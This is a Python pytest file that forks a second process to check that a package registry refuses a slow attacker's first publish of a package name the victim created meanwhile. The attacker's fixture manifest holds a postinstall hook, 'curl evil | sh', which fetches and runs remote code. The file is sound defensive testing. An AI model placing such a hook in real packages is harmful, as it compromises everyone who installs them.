"""The concurrent first publish, with two real processes on one data dir.

The attacker's publish of a name nobody owns yet starts first: the app's early
check ("package absent: anyone who may publish starts it") passes and the body
is still arriving. Meanwhile the victim publishes that name for real. When the
attacker's body is complete, the registry must decide ownership again, inside
its write transaction, and refuse with 403 — leaving the victim's versions,
dist-tags and maintainers as they were.

The attacker runs in a forked process that stops at a chosen point until the
parent says go, so the order is forced, not timed:

- ``body``: its ``wsgi.input`` blocks on the first read (a read of the body only
  happens once the guard let the request through);
- ``commit``: its blob store blocks after the tarball file is written, i.e. after
  every check outside the transaction, just before the transaction that commits.
"""

from __future__ import annotations

import io
import json
import multiprocessing
import os
from multiprocessing.connection import Connection
from multiprocessing.synchronize import Event
from pathlib import Path
from typing import Any

import falcon.testing
import pytest

from app.main import create_app
from r13core.database import open_database
from r13core.keys import KeyStore, Permission
from r13core.services import open_services
from r13core.settings import Settings
from r13core.storage.base import BlobInfo
from r13core.storage.blobs import FileBlobStore
from tests.npm_builders import publish_body

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not hasattr(os, "fork"), reason="forks a second process"),
]

URL = "http://127.0.0.1:4873"
NAME = "victim-pkg"


def _settings(data: Path) -> Settings:
    return Settings.from_env({"R13_DATA": str(data), "R13_PUBLIC_URL": URL})


class _HeldBody(io.RawIOBase):
    """A request body that tells the parent when the app starts reading it, then waits."""

    def __init__(self, data: bytes, reading: Event, go: Event) -> None:
        self._data = io.BytesIO(data)
        self._reading = reading
        self._go = go

    def readable(self) -> bool:
        return True

    def read(self, size: int = -1) -> bytes:
        if not self._go.is_set():
            self._reading.set()
            if not self._go.wait(120):
                raise TimeoutError("the parent never let the body through")
        return self._data.read(size)


def _attacker(
    data: Path, key: str, body: bytes, pause: str, reading: Event, go: Event, out: Connection
) -> None:
    """In the child: one PUT through the real app, its answer sent back to the parent."""
    try:
        if pause == "commit":
            real_put = FileBlobStore.put

            def put_then_wait(self: FileBlobStore, data: bytes) -> BlobInfo:
                info = real_put(self, data)
                reading.set()
                if not go.wait(120):
                    raise TimeoutError("the parent never let the commit go on")
                return info

            FileBlobStore.put = put_then_wait  # type: ignore[method-assign]
        app = create_app(open_services(_settings(data)))
        env = falcon.testing.create_environ(
            method="PUT",
            path=f"/{NAME}",
            headers={
                "Authorization": f"Bearer {key}",
                "Content-Type": "application/json",
                "Content-Length": str(len(body)),
            },
        )
        held = _HeldBody(body, reading, go) if pause == "body" else io.BytesIO(body)
        env["wsgi.input"] = held
        status: list[str] = []
        chunks = app(env, lambda s, headers, exc=None: status.append(s))
        out.send((status[0], b"".join(chunks)))
    except BaseException as exc:  # report, never hang the parent
        out.send(("crash", repr(exc).encode()))
    finally:
        out.close()
        os._exit(0)


def _keys(data: Path) -> dict[str, str]:
    store = KeyStore(open_database(data))
    return {who: store.create(who, Permission.WRITE, None)[1] for who in ("mallory", "victim")}


def _publish(client: falcon.testing.TestClient, key: str, body: dict[str, Any]) -> Any:
    return client.simulate_put(f"/{NAME}", json=body, headers={"Authorization": f"Bearer {key}"})


@pytest.mark.parametrize("pause", ["body", "commit"])
def test_a_slow_first_publish_cannot_take_over_a_package_created_meanwhile(
    tmp_path: Path, pause: str
) -> None:
    data = tmp_path / "data"
    keys = _keys(data)
    ctx = multiprocessing.get_context("fork")
    reading, go = ctx.Event(), ctx.Event()
    parent_end, child_end = ctx.Pipe(duplex=False)
    hostile = publish_body(NAME, "6.6.6", manifest={"scripts": {"postinstall": "curl evil | sh"}})
    hostile["dist-tags"] = {"latest": "6.6.6"}
    child = ctx.Process(
        target=_attacker,
        args=(data, keys["mallory"], json.dumps(hostile).encode(), pause, reading, go, child_end),
    )
    child.start()
    child_end.close()
    try:
        # The attacker's request passed the early check and waits at its pause point.
        assert reading.wait(120), f"the attacker's request never reached its {pause} pause"
        client = falcon.testing.TestClient(create_app(open_services(_settings(data))))
        mine = _publish(client, keys["victim"], publish_body(NAME, "1.0.0"))
        assert mine.status_code == 201, mine.text
        before = client.simulate_get(
            f"/{NAME}", headers={"Authorization": f"Bearer {keys['victim']}"}
        ).json
        go.set()
        assert parent_end.poll(120), "the attacker's request never finished"
        status, answer = parent_end.recv()
    finally:
        go.set()
        child.join(60)
    assert status.startswith("403"), (status, answer)
    error = json.loads(answer)["error"]
    assert "not a maintainer of victim-pkg" in error

    after = client.simulate_get(
        f"/{NAME}", headers={"Authorization": f"Bearer {keys['victim']}"}
    ).json
    assert after == before
    assert list(after["versions"]) == ["1.0.0"]
    assert after["dist-tags"] == {"latest": "1.0.0"}
    assert [m["name"] for m in after["maintainers"]] == ["key:victim"]
    tarball = client.simulate_get(
        f"/{NAME}/-/{NAME}-6.6.6.tgz", headers={"Authorization": f"Bearer {keys['victim']}"}
    )
    assert tarball.status_code == 404
